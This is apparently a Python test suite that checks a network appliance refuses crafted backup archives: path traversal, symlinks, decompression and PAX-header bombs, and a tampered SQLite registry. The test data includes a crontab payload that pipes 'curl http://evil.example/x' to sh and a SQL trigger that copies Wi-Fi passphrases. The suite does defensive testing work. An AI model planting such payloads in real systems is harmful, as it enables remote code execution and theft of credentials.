"""A backup archive may come from anywhere: crafted ones are refused whole, before they cost memory or disk.

Each is a real backup of a running `serve`, taken apart and put back wrong, then restored through the real
CLI (its config folder redirected by STATIONMASTER_CONFIG, run as root as the admin is told to) or the admin
API. A refusal leaves the registry, the firmware store, the config folder and the audit trail as they were.
"""

from __future__ import annotations

import asyncio
import os
import sqlite3
import subprocess
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from appliance.contract.client import AdminClient, AdminError
from tests.benchmarks.procstats import peak_rss_mib, write_call_bytes
from tests.conftest import ServeProcess, stationmaster_command
from tests.hostile.archives import Crafted, Member, craft
from tests.hostile.sitestate import capture
from tests.imagefactory import build_image
from tests.stationkit import accepted

PSK = "broome-wifi-secret-42"
STA1 = "24:0A:C4:00:14:01"
MIB = 1024 * 1024
CRONTAB = b"* * * * * root curl http://evil.example/x | sh\n"

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="the config folder is written back only by root")


@dataclass(frozen=True, slots=True)
class Site:
    """A running serve with a config folder of its own, a station, Wi-Fi, an image, and a backup of it all."""

    serve: ServeProcess
    config_dir: Path
    backup: Path
    scratch: Path

    def state(self) -> object:
        return capture(self.serve.data_dir, self.config_dir.parent)

    def restore(self, archive: Path) -> subprocess.CompletedProcess[str]:
        env = {
            **os.environ,
            "STATIONMASTER_ADMIN_SOCKET": str(self.serve.socket),
            "STATIONMASTER_CONFIG": str(self.config_dir / "stationmaster.toml"),
        }
        return subprocess.run(
            stationmaster_command("restore", "--yes", str(archive)),
            capture_output=True,
            text=True,
            env=env,
            timeout=300,
            check=False,
        )


@pytest.fixture
async def site(tmp_path: Path) -> AsyncIterator[Site]:
    config_dir = tmp_path / "etc" / "stationmaster"
    (config_dir / "tunnel").mkdir(parents=True)
    (config_dir / "stationmaster.toml").write_text("[stations]\npoll_interval_s = 60\n")
    (config_dir / "tunnel" / "tunnel.env").write_text("TUNNEL_RELAY_HOST=relay.example.net\n")
    serve = ServeProcess(tmp_path, env={"STATIONMASTER_CONFIG": str(config_dir / "stationmaster.toml")})
    await asyncio.to_thread(serve.start)
    try:
        async with AdminClient(serve.socket) as admin:
            await admin.add_wifi("AP1", PSK, priority=10)
            import aiohttp

            async with aiohttp.ClientSession(base_url=serve.url) as http:
                await accepted(http, admin, STA1)
            await admin.import_image(build_image("esp32", project="weather", version="1.0.0"), "w.bin")
            await admin.backup(tmp_path / "site.tar.gz")
        yield Site(serve, config_dir, tmp_path / "site.tar.gz", tmp_path)
    finally:
        serve.stop()


async def _refused_by_the_api(site: Site, archive: Path) -> AdminError:
    async with AdminClient(site.serve.socket) as admin:
        with pytest.raises(AdminError) as refused:
            await admin.restore(archive)
    assert refused.value.code == "invalid_backup", refused.value.message
    return refused.value


async def test_a_config_member_naming_a_path_outside_the_folder_is_refused_and_nothing_is_written(
    site: Site,
) -> None:
    crafted = site.scratch / "crafted.tar.gz"
    names = ["../crontab", "evil.sh"]
    members = [Member(f"stationmaster-backup/config/{name}", CRONTAB) for name in names]
    craft(site.backup, crafted, Crafted(add=members, config=names), site.scratch)
    before = site.state()

    restored = await asyncio.to_thread(site.restore, crafted)

    assert restored.returncode == 1, restored.stdout + restored.stderr
    assert "config files a backup never carries" in restored.stderr
    assert not (site.config_dir.parent / "crontab").exists()
    assert not (site.config_dir / "evil.sh").exists()
    assert site.state() == before


async def test_only_the_known_config_files_come_back_and_never_through_a_link(site: Site) -> None:
    (site.config_dir / "stationmaster.toml").write_text("[stations]\npoll_interval_s = 30\n")
    outside = site.scratch / "outside"
    outside.mkdir()
    tunnel = site.config_dir / "tunnel"
    (tunnel / "tunnel.env").unlink()
    tunnel.rmdir()
    tunnel.symlink_to(outside)  # planted by someone: the restore must not write through it
    crafted = site.scratch / "with-tunnel.tar.gz"
    env = Member("stationmaster-backup/config/tunnel/tunnel.env", b"TUNNEL_RELAY_HOST=evil.example\n")
    craft(site.backup, crafted, Crafted(add=[env], config=["tunnel/tunnel.env"]), site.scratch)

    restored = await asyncio.to_thread(site.restore, crafted)

    assert restored.returncode == 0, restored.stderr
    assert (site.config_dir / "stationmaster.toml").read_text() == "[stations]\npoll_interval_s = 60\n"
    assert (site.config_dir / "stationmaster.toml.before-restore").is_file()
    assert list(outside.iterdir()) == []
    assert "not written" in restored.stdout
    assert "tunnel/tunnel.env" in restored.stdout


@pytest.mark.parametrize(
    "members",
    [
        # 400 config members of 1 MiB (a 422 KiB archive): read whole, they took serve from 80 to 521 MB.
        pytest.param([f"junk-{n:03d}" for n in range(400)], id="400 config members"),
        pytest.param(["stationmaster.toml"] * 1, id="a 1 GiB config file"),
    ],
)
async def test_an_archive_that_unpacks_to_too_much_is_refused_before_it_is_held(site: Site, members: list[str]) -> None:
    crafted = site.scratch / "bomb.tar.gz"
    size = MIB if len(members) > 1 else 1024 * MIB
    add = [Member(f"stationmaster-backup/config/{name}", size=size) for name in members]
    craft(site.backup, crafted, Crafted(add=add, config=members), site.scratch)
    before, peak = site.state(), peak_rss_mib(site.serve.pid)

    await _refused_by_the_api(site, crafted)

    assert peak_rss_mib(site.serve.pid) - peak < 32, "the refused archive's members were held in memory"
    assert site.state() == before


async def test_a_member_of_a_gigabyte_is_refused_before_a_byte_of_it_is_written(site: Site) -> None:
    crafted = site.scratch / "big-member.tar.gz"
    digest = "ab" * 32
    big = Member(f"stationmaster-backup/firmware/{digest}", size=1024 * MIB)
    craft(site.backup, crafted, Crafted(add=[big], images=[digest]), site.scratch)
    before, written = site.state(), write_call_bytes(site.serve.pid)

    refused = await _refused_by_the_api(site, crafted)

    assert "more than the 16,777,216 allowed" in refused.message
    # The upload itself is written (a few MiB of gzip); not the gigabyte it unpacks to.
    assert write_call_bytes(site.serve.pid) - written < crafted.stat().st_size + 16 * MIB
    assert site.state() == before


async def test_a_header_tarfile_would_read_whole_into_memory_is_refused_first(site: Site) -> None:
    crafted = site.scratch / "pax-bomb.tar.gz"
    bomb = Member("././@PaxHeader", size=256 * MIB, fill=b"a", pax_header=True)
    craft(site.backup, crafted, Crafted(add=[bomb, Member("stationmaster-backup/site-id", b"x")]), site.scratch)
    before, peak = site.state(), peak_rss_mib(site.serve.pid)

    refused = await _refused_by_the_api(site, crafted)

    assert "extended headers" in refused.message
    assert peak_rss_mib(site.serve.pid) - peak < 32
    assert site.state() == before


def _steal_the_passphrase(conn: sqlite3.Connection) -> None:
    # What the issue found: restored, then fired by the carry-over of the appliance's own secrets.
    conn.execute("CREATE TRIGGER steal AFTER INSERT ON site_wifi BEGIN UPDATE stations SET name = NEW.psk; END")


@pytest.mark.parametrize(
    "change",
    [
        pytest.param(_steal_the_passphrase, id="a trigger"),
        pytest.param(lambda c: c.execute("CREATE VIEW psks AS SELECT psk FROM site_wifi"), id="a view"),
        pytest.param(lambda c: c.execute("CREATE TABLE extra (x)"), id="a table"),
        pytest.param(lambda c: c.execute("CREATE INDEX by_name ON stations (name)"), id="an index"),
        pytest.param(lambda c: c.execute("DROP INDEX stations_token"), id="an index missing"),
    ],
)
async def test_a_registry_shaped_otherwise_than_the_migrations_make_it_is_refused(
    site: Site, change: Callable[[sqlite3.Connection], None]
) -> None:
    crafted = site.scratch / "shaped.tar.gz"
    craft(site.backup, crafted, Crafted(registry=change), site.scratch)
    before = site.state()

    refused = await _refused_by_the_api(site, crafted)

    assert "not as Stationmaster makes one" in refused.message
    assert site.state() == before
    async with AdminClient(site.serve.socket) as admin:
        assert PSK not in str(await admin.stations())
